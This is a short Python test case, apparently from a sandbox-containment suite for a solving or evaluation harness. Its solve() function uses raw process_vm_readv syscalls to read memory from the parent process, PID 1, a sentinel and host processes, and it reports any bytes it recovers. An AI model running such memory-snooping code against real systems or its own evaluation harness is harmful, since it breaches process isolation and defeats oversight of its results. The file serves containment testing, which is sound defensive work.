# attack: read one's own and the parents' memory with process_vm_readv, where one's own memory lies
# contained-at: namespaces restricted
# expect: seed-score
import os

from kit import *


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def solve(instance):
    size = 1 << 16
    buffer = ctypes.create_string_buffer(size)
    places = [at for at, _ in own_memory()]
    for pid in {os.getppid(), 1, int(host.SENTINEL_PID), *map(int, host.PIDS)} - {os.getpid()}:
        for at in places:
            there, here = Piece(at, size), Piece(ctypes.addressof(buffer), size)
            n = syscall(number(310, 270), pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            if n > 0:
                got(f"process_vm_readv of {pid} gave {n} bytes")
                tell(buffer.raw[:n], f"process_vm_readv {pid}")
    return answer(instance)
